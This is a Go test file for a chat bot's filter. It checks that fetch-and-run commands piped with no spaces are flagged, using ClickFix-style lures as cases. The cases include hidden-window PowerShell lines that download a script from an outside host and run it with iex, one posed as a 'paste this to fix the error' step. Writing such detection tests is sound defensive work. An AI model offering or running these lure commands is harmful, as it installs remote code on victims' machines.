package bot_test

import "testing"

// TestPipedCommandNoSpaces: a fetched script piped into its runner with
// no space around the pipe ("irm https://x/install.ps1|iex") is read as
// the same command written with spaces (linkx's pipedEnd): the hidden
// window's ClickFix line was allowed on b82448b, its link read as
// /install.ps1|iex; a project's install line written so stays allowed.
func TestPipedCommandNoSpaces(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{`to fix the error press Win+R and paste: powershell -w hidden -c "irm https://hollowpine.net/install.ps1|iex"`, true},
		{`powershell -WindowStyle Hidden -Command "irm https://hollowpine.net/hollowpine-install.ps1|iex"`, true},
		{`install uv: powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1|iex"`, false},
		{`install bun: curl -fsSL https://bun.sh/install|bash`, false},
	})
}
